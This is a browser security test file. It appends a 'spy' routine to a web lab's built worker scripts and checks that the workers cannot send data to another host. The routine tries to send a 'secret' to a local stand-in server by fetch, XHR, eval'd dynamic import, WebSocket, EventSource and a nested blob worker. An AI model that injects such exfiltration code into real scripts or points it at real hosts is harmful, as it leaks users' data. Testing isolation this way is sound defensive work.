import {appendFileSync, cpSync, mkdtempSync, readdirSync, rmSync} from "node:fs";
import {createServer} from "node:http";
import type {AddressInfo} from "node:net";
import {tmpdir} from "node:os";
import {join} from "node:path";
import {afterAll, beforeAll, expect, test} from "vitest";
import {PROJECT} from "../../src/notebook/site/buildSite.ts";
import {openLab, type OpenLab} from "./openLab.ts";

/** Whatever reaches another host. */
const arrived: string[] = [];
const other = createServer((request, response) => {
  arrived.push(request.url!);
  response.writeHead(200, {
    "Access-Control-Allow-Origin": "*",
    "Cross-Origin-Resource-Policy": "cross-origin",
    "Content-Type": "text/javascript"
  });
  response.end();
}).on("upgrade", (request, socket) => (arrived.push(request.url!), socket.destroy()));

const folder = mkdtempSync(join(tmpdir(), "tiny-dalle-lab-"));
let lab: OpenLab;
let scripts: string[];

/**
 * Tries to send something to `host`, in every way that a worker has, itself and by a worker of its own
 * as the wasm threads are; runs in the worker, and then says so.
 */
async function spy(host: string, name: string): Promise<void> {
  const to = (way: string) => `${host}/${name}/${way}`;
  const opened = (source: EventTarget) =>
    new Promise((resolve) => {
      for (const type of ["open", "error", "message"]) source.addEventListener(type, resolve);
    });
  const nested =
    `const failed = () => {}; try { importScripts("${to("nested-script")}") } catch {}` +
    `fetch("${to("nested-fetch")}", {mode: "no-cors"}).catch(failed).then(() => postMessage("done"));`;
  const xhr = () => {
    const request = new XMLHttpRequest();
    request.open("POST", to("xhr"));
    request.send("secret");
    return new Promise((resolve) => request.addEventListener("loadend", resolve));
  };
  const ways: (() => unknown)[] = [
    () => fetch(to("fetch"), {method: "POST", mode: "no-cors", body: "secret"}),
    xhr,
    // As text, or the test's own compiler makes something else of it.
    () => (0, eval)(`import("${to("import")}")`),
    () => opened(new WebSocket(to("socket").replace("http", "ws"))),
    () => opened(new EventSource(to("events"))),
    () => opened(new Worker(URL.createObjectURL(new Blob([nested]))))
  ];
  await Promise.allSettled(ways.map(async (way) => way()));
  new BroadcastChannel("spy").postMessage(name);
}

beforeAll(async () => {
  await new Promise<void>((resolve) => other.listen(0, "127.0.0.1", resolve));
  const host = `http://localhost:${(other.address() as AddressInfo).port}`;
  cpSync(join(PROJECT, "dist"), folder, {recursive: true});
  const assets = join(folder, "assets");
  scripts = readdirSync(assets).filter((file) => /^(worker|pictureWorker|shardWorker)-/.test(file));
  for (const script of scripts) {
    const call = `(${spy})(${JSON.stringify(host)}, ${JSON.stringify(script.split("-")[0])});`;
    appendFileSync(join(assets, script), `\n;${call}\n`);
  }
  // A host that sends no header: the policy is the page's own.
  lab = await openLab({page: "no-such-page.html", folder, serverWithoutHeaders: true});
  await lab.context.addInitScript(() => {
    const heard: string[] = [];
    Object.assign(globalThis, {heard});
    new BroadcastChannel("spy").onmessage = ({data}) => heard.push(data);
  });
});

afterAll(async () => {
  await lab?.close();
  other.close();
  rmSync(folder, {recursive: true});
});

/** Resolves once a worker of this name has tried everything. */
const tried = (name: string) =>
  lab.page.waitForFunction(
    (name) => (globalThis as unknown as {heard: string[]}).heard.includes(name),
    name
  );

test("what no worker can send arrives from one that does not begin as a blob", async () => {
  const {page, server} = lab;
  await page.goto(`${server.url}distributed.html`);
  // A plain host's page loads itself once more, for the sake of threads.
  await page.waitForFunction(() => crossOriginIsolated);
  const script = scripts.find((name) => name.startsWith("shardWorker"))!;
  await page.evaluate((script) => void new Worker(script, {type: "module"}), `./assets/${script}`);
  await tried("shardWorker");
  const ways = ["events", "fetch", "import", "nested-fetch", "nested-script", "socket", "xhr"];
  expect([...new Set(arrived.splice(0))].sort()).toEqual(ways.map((way) => `/shardWorker/${way}`));
});

test("no worker of the lab can send anything to another host", async () => {
  expect(scripts).toHaveLength(3);
  const {page, server} = lab;
  await page.goto(`${server.url}dvae.html`);
  await tried("worker");
  const picture = {
    name: "dot.svg",
    mimeType: "image/svg+xml",
    buffer: Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg"><circle r="4"/></svg>`)
  };
  // Kept open: reading this one picture ends before the spy does.
  await page.evaluate(() => (Worker.prototype.terminate = () => {}));
  await page.locator(".own-images input[type=file]:not([webkitdirectory])").setInputFiles(picture);
  await tried("pictureWorker");
  await page.goto(`${server.url}distributed.html`);
  await page.getByRole("button", {name: "Train on one worker, then on all"}).click();
  await tried("shardWorker");
  expect(arrived).toEqual([]);
});
